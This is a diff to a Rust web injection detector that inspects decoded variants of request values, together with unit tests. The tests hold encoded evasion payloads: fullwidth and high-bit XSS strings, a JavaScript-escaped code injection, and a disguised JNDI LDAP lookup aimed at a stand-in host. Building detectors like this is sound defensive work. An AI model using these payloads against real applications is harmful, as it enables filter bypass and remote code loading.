@@ -78,10 +78,33 @@ impl Found<'_> {
         });
     }
 
-    /// Every family on one decoded value. A plain value (letters, digits,
-    /// `-`) carries no syntax: only a session parameter's name is looked
-    /// for in it.
+    /// Every family on one decoded value and on the other ways a server
+    /// may read it: compatibility characters folded, JavaScript escapes
+    /// undone, and (for markup only) the high bit dropped.
     fn value(&mut self, place: Place, v: &str) {
+        self.view(place, v);
+        let unescaped = decode::js_escapes(v);
+        let views = [decode::compatibility(v), unescaped.clone()];
+        for other in views.iter().flatten() {
+            self.view(place, other);
+        }
+        for text in std::iter::once(v).chain(unescaped.as_deref()) {
+            let Some(masked) = decode::seven_bit(text) else {
+                continue;
+            };
+            let lower = masked.to_ascii_lowercase();
+            for (kind, shape) in patterns::detect(&lower, false) {
+                if kind == Kind::InjectionXss {
+                    self.add(kind, shape, place, v);
+                }
+            }
+        }
+    }
+
+    /// Every family on one view of a value. A plain value (letters,
+    /// digits, `-`) carries no syntax: only a session parameter's name is
+    /// looked for in it.
+    fn view(&mut self, place: Place, v: &str) {
         if plain(v) {
             // The base64 of a serialized Java object's magic (AC ED 00 05)
             // at any of the three alignments is plain text too.
@@ -93,7 +116,10 @@ impl Found<'_> {
                     v,
                 );
             }
-            if place == Place::Query && families::session_parameter(&v.to_ascii_lowercase()) {
+            let lower = v.to_ascii_lowercase();
+            if (place == Place::Query && families::session_parameter(&lower))
+                || (place == Place::Body && families::session_field(&lower))
+            {
                 self.add(
                     Kind::SessionFixation,
                     "session parameter in the url",
@@ -216,6 +242,65 @@ impl Detector for Injection {
                 detail["sample"] = json!(s);
             }
             emit.finding(h.kind, obs.time, detail);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn found(query: &str, body: &str) -> Vec<&'static str> {
+        let req = Request {
+            method: "POST".into(),
+            path: "/f".into(),
+            query: Some(query.into()),
+            content_type: Some("application/x-www-form-urlencoded".into()),
+            body: body.as_bytes().to_vec(),
+            ..Request::default()
+        };
+        inspect(&InjectionConfig::default(), &req)
+            .into_iter()
+            .map(|h| h.kind.name())
+            .collect()
+    }
+
+    #[test]
+    fn other_readings_of_a_value_are_inspected() {
+        // Fullwidth forms fold to ASCII (NFKC).
+        assert_eq!(
+            found(
+                "q=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E",
+                ""
+            ),
+            ["injection_xss"]
+        );
+        // JavaScript escapes, in a value that reaches an eval.
+        assert_eq!(found("q=c\\u006fnsole.info(1)", ""), ["injection_code"]);
+        // The high bit dropped (US-ASCII charset): `¼script¾`.
+        assert_eq!(
+            found("", "v=%BCscript%BEalert(%A2XSS%A2)%BC/script%BE"),
+            ["injection_xss"]
+        );
+        assert_eq!(
+            found("", "v=\\xbcscript\\xbealert(1)\\xbc/script\\xbe"),
+            ["injection_xss"]
+        );
+        // Named character references a Java or PHP decoder knows.
+        assert_eq!(
+            found("", "v=$%26lbrace;jndi:ldap://x.test/a}"),
+            ["injection_jndi"]
+        );
+    }
+
+    #[test]
+    fn ordinary_accented_text_is_not_markup() {
+        for body in [
+            "comment=%C3%BCber+die+Br%C3%BCcke+%C3%A0+la+carte+%C2%BC+cup+%C2%BE+full",
+            "name=Fran%C3%A7oise+M%C3%BCller&city=K%C3%B6ln",
+            "note=%EF%BC%88fullwidth+parens%EF%BC%89+and+%E3%80%82dots",
+        ] {
+            assert!(found("", body).is_empty(), "{body}: {:?}", found("", body));
         }
     }
 }
